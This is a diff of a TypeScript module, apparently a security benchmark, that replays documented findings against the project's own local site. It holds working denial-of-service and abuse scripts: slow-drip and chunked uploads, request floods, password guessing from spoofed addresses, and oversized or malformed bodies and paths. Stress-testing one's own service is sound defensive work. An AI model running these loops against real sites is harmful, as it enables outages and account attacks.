@@ -1,19 +1,19 @@
 import { Agent, request } from "node:http";
-import { connect } from "node:net";
+import { connect, type Socket } from "node:net";
 import { setTimeout as wait } from "node:timers/promises";
-import { WebSocket } from "ws";
+import { joinMessage, openSocket } from "#tools/bench/live-clients.ts";
 
-/** What an outsider knows of a site. */
+/** What an outsider knows about a site. */
 export type Target = { url: string; publishableKey: string };
 
-/** One attack of docs/security.md: what an anonymous client once did to the site, again and again until it is told to stop. */
+/** One attack of docs/security.md, repeated by an anonymous client until it is told to stop. */
 export type Attack = {
   finding: string;
   does: string;
   run: (target: Target, isOver: () => boolean) => Promise<void>;
 };
 
-/** One client; what comes from elsewhere says so. */
+/** The default address of an attacker. */
 const attacker = "203.0.113.66";
 const agent = new Agent({ keepAlive: true, maxSockets: 64 });
 
@@ -25,7 +25,7 @@ type Asked = {
   hangUpMs?: number;
 };
 
-/** Says how it was answered, 0 when it was not; what an attacker is answered is not what is measured here. */
+/** Returns the status, or 0 without a response. The responses to an attacker are not measured. */
 function ask(target: Target, path: string, asked: Asked = {}): Promise<number> {
   const { method = "GET", headers = {}, body, from = attacker, hangUpMs = 20_000 } = asked;
   return new Promise((resolve) => {
@@ -47,7 +47,7 @@ function ask(target: Target, path: string, asked: Asked = {}): Promise<number> {
   });
 }
 
-/** Several connections, each asking as fast as it is answered; who is refused at once takes a breath, as a client would. */
+/** Runs parallel loops of requests. A client without a response pauses briefly. */
 async function flood(width: number, isOver: () => boolean, once: (turn: number) => Promise<number>) {
   let turn = 0;
   const work = async () => {
@@ -59,21 +59,39 @@ async function flood(width: number, isOver: () => boolean, once: (turn: number) 
 const json = (target: Target) => ({ apikey: target.publishableKey, "content-type": "application/json" });
 const madeUp = () => Math.random().toString(36).slice(2);
 
-/** The beginning of a form that adds a paper to the enquiry with this key. */
-function paperHead(key: string): string {
+/** The beginning of a form that adds an attachment to the enquiry with this key. */
+function attachmentHead(key: string): string {
   const field = (name: string, value: string) =>
     `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
   return `${field("key", key)}${field("papers-follow", "yes")}--b\r\nContent-Disposition: form-data; name="papers"; filename="a.pdf"\r\n\r\n%PDF-`;
 }
 
-/** A multipart post that has begun and goes on with a byte now and then. */
-function drip(target: Target, key: string, from: string): () => void {
+/** Opens a connection and sends the head of an upload with these further headers. */
+function beginUpload(target: Target, from: string, headers: string): Socket {
   const socket = connect(Number(new URL(target.url).port), "127.0.0.1");
   socket.on("error", () => undefined);
   socket.write(
-    `POST /lead-papers HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${from}\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 9000000\r\n\r\n` +
-      paperHead(key),
+    `POST /lead-papers HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${from}\r\nContent-Type: multipart/form-data; boundary=b\r\n${headers}\r\n\r\n`,
   );
+  return socket;
+}
+
+/** Posts a form as a page of the site does. */
+const postAs = (target: Target, path: string, from: string, fields: Record<string, string>) =>
+  ask(target, path, {
+    method: "POST",
+    headers: { "content-type": "application/x-www-form-urlencoded", origin: target.url },
+    body: new URLSearchParams(fields).toString(),
+    from,
+  });
+
+const postJson = (target: Target, path: string, body: string, from = attacker) =>
+  ask(target, path, { method: "POST", headers: json(target), body, from });
+
+/** Starts a multipart upload that sends a byte now and then. */
+function drip(target: Target, key: string, from: string): () => void {
+  const socket = beginUpload(target, from, "Content-Length: 9000000");
+  socket.write(attachmentHead(key));
   const clock = setInterval(() => socket.writable && socket.write("x"), 1_000);
   socket.on("close", () => clearInterval(clock));
   return () => socket.destroy();
@@ -81,9 +99,7 @@ function drip(target: Target, key: string, from: string): () => void {
 
 async function leaveLead(target: Target, from: string): Promise<string> {
   const key = crypto.randomUUID();
-  const body = new URLSearchParams({ form: "hero", contact: `+91 98480 ${from}`, key }).toString();
-  const headers = { "content-type": "application/x-www-form-urlencoded", origin: target.url };
-  await ask(target, "/leads", { method: "POST", body, from, headers });
+  await postAs(target, "/leads", from, { form: "hero", contact: `+91 98480 ${from}`, key });
   return key;
 }
 
@@ -110,30 +126,22 @@ export const attacks: readonly Attack[] = [
     does: "four thousand enquiries in a post",
     run: (target, isOver) => {
       const body = JSON.stringify(Array.from({ length: 4_000 }, () => ({ phone: "1" })));
-      return flood(2, isOver, () =>
-        ask(target, "/rest/v1/contact_leads", { method: "POST", headers: json(target), body }),
-      );
+      return flood(2, isOver, () => postJson(target, "/rest/v1/contact_leads", body));
     },
   },
   {
     finding: "V5",
     does: "subscriptions with filters that fail",
     run: async (target, isOver) => {
-      const url = `${target.url.replace("http", "ws")}/realtime/v1/websocket?apikey=${target.publishableKey}&vsn=2.0.0`;
+      const hero = { event: "*", schema: "public", table: "homepage_content" } as const;
       const filters = Array.from({ length: 20 }, () => ({
-        event: "*",
-        schema: "public",
-        table: "homepage_content",
+        ...hero,
         filter: `section_type=match.[${madeUp()}`,
       }));
       const sockets = Array.from({ length: 20 }, () => {
-        const socket = new WebSocket(url, { headers: { "x-forwarded-for": attacker } });
+        const socket = openSocket(target.url, target.publishableKey, attacker);
         socket.on("error", () => undefined);
-        socket.on("open", () =>
-          socket.send(
-            JSON.stringify(["1", "1", "realtime:a", "phx_join", { config: { postgres_changes: filters } }]),
-          ),
-        );
+        socket.on("open", () => socket.send(joinMessage("a", filters)));
         return socket;
       });
       while (!isOver()) await wait(200);
@@ -142,7 +150,7 @@ export const attacks: readonly Attack[] = [
   },
   {
     finding: "V6",
-    does: "papers at a byte a second, made-up and real keys",
+    does: "attachments at a byte a second, made-up and real keys",
     run: async (target, isOver) => {
       const senders = ["203.0.113.66", "203.0.113.67", "203.0.113.68"];
       while (!isOver()) {
@@ -170,17 +178,12 @@ export const attacks: readonly Attack[] = [
       flood(6, isOver, async (turn) => {
         await wait(500);
         const body = JSON.stringify({ email: "owner@example.org", password: `wrong ${turn}` });
-        return ask(target, "/auth/v1/token?grant_type=password", {
-          method: "POST",
-          headers: json(target),
-          body,
-          from: `203.0.113.${70 + (turn % 6)}`,
-        });
+        return postJson(target, "/auth/v1/token?grant_type=password", body, `203.0.113.${70 + (turn % 6)}`);
       }),
   },
   {
     finding: "V10",
-    does: "ten megabytes of paper, over and over",
+    does: "attachments of ten megabytes, repeatedly",
     run: async (target, isOver) => {
       const bytes = Buffer.alloc(10 * 1024 * 1024 - 1024, 32);
       await flood(2, isOver, async (turn) => {
@@ -203,20 +206,16 @@ export const attacks: readonly Attack[] = [
   },
   {
     finding: "B1",
-    does: "papers in chunks of one byte",
+    does: "attachments in chunks of one byte",
     run: async (target, isOver) => {
       const crumbs = "1\r\nx\r\n".repeat(2_000);
       await flood(2, isOver, async (turn) => {
         const from = `198.51.100.${turn % 250}`;
         const key = await leaveLead(target, from);
-        const head = paperHead(key);
-        const socket = connect(Number(new URL(target.url).port), "127.0.0.1");
-        socket.on("error", () => undefined).resume();
-        socket.write(
-          `POST /lead-papers HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${from}\r\nContent-Type: multipart/form-data; boundary=b\r\n` +
-            `Transfer-Encoding: chunked\r\n\r\n${head.length.toString(16)}\r\n${head}\r\n`,
-        );
-        // A poor line: it is the memory that is attacked. Who sends this at full speed takes what any flood takes.
+        const head = attachmentHead(key);
+        const socket = beginUpload(target, from, "Transfer-Encoding: chunked").resume();
+        socket.write(`${head.length.toString(16)}\r\n${head}\r\n`);
+        // Slow on purpose: this attacks the memory. At full speed it would be an ordinary flood.
         for (let sent = 0; sent < 1_000 && socket.writable && !isOver(); sent += 1) {
           socket.write(crumbs);
           await wait(100);
@@ -240,13 +239,13 @@ export const attacks: readonly Attack[] = [
   },
   {
     finding: "V21",
-    does: "addresses and bodies nobody meant",
+    does: "malformed addresses and bodies",
     run: (target, isOver) => {
       const deep = `{"phone":"1","details":${"[".repeat(8_000)}${"]".repeat(8_000)}}`;
       return flood(4, isOver, (turn) =>
         turn % 2 === 0
           ? ask(target, ["//", "///", "/%00", "/te//evil.example/x"][(turn >> 1) % 4] ?? "/")
-          : ask(target, "/rest/v1/contact_leads", { method: "POST", headers: json(target), body: deep }),
+          : postJson(target, "/rest/v1/contact_leads", deep),
       );
     },
   },
@@ -277,16 +276,13 @@ export const attacks: readonly Attack[] = [
     finding: "A1",
     does: "very long answers to “was this right?”, from many addresses",
     run: (target, isOver) => {
-      const body = new URLSearchParams({ page: "/faq", remark: "a".repeat(60_000) }).toString();
-      const headers = { "content-type": "application/x-www-form-urlencoded", origin: target.url };
-      return flood(4, isOver, (turn) =>
-        ask(target, "/page-answers", { method: "POST", headers, body, from: `198.51.100.${turn % 250}` }),
-      );
+      const fields = { page: "/faq", remark: "a".repeat(60_000) };
+      return flood(4, isOver, (turn) => postAs(target, "/page-answers", `198.51.100.${turn % 250}`, fields));
     },
   },
   {
     finding: "A3",
-    does: "searches and long addresses nobody has asked for",
+    does: "made-up searches and long addresses",
     run: (target, isOver) =>
       flood(8, isOver, (turn) =>
         ask(
